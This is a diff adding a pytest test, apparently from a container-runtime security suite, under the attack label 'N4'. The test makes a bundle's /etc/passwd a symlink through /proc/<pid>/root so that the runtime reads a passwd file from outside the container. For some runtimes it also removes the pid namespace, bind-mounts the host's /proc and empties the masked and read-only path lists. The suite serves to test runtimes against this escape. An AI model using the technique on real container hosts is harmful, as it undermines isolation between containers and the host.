@@ -105,3 +105,24 @@ def test_passwd_of_the_image(victim, planted):
         return
     out = victim.run(b).out
     victim.judge([out] if out != "/\n" else [])
+
+
+@pytest.mark.attack("N4")
+def test_passwd_of_the_image_is_the_hosts(victim):
+    """The image's passwd is a link of procfs, which for root leads to what another process has as its root: here the host's."""
+    theirs = victim.file("outside/passwd", "0:x:4711:4711::/:\nroot:x:0:0::/home-of-the-host:\n")
+    b = victim.bundle(["sleep", "100"] if victim.naive else ["sh", "-c", "echo $HOME"])
+    victim.put(b, "etc/passwd", link=f"/proc/{os.getpid()}/root{theirs}")
+    if victim.naive:  # which looks names up for exec
+        victim.run(b, "-d")
+        out = victim.exec("id", "-u", options=("-u", "0")).out
+        victim.box.delete()
+        victim.judge([out] if out == "4711\n" else [])
+        return
+    b.config["linux"]["namespaces"] = [n for n in b.config["linux"]["namespaces"] if n["type"] != "pid"]
+    if victim.kind in ("user namespace", "rootless"):  # may mount no procfs then, and binds the host's
+        b.config["mounts"] = [m for m in b.config["mounts"] if m["destination"] != "/proc"]
+        b.config["mounts"].append({"destination": "/proc", "type": "bind", "source": "/proc", "options": ["rbind"]})
+        b.config["linux"].update(maskedPaths=[], readonlyPaths=[])
+    out = victim.run(b).out
+    victim.judge([out] if out != "/\n" else [])
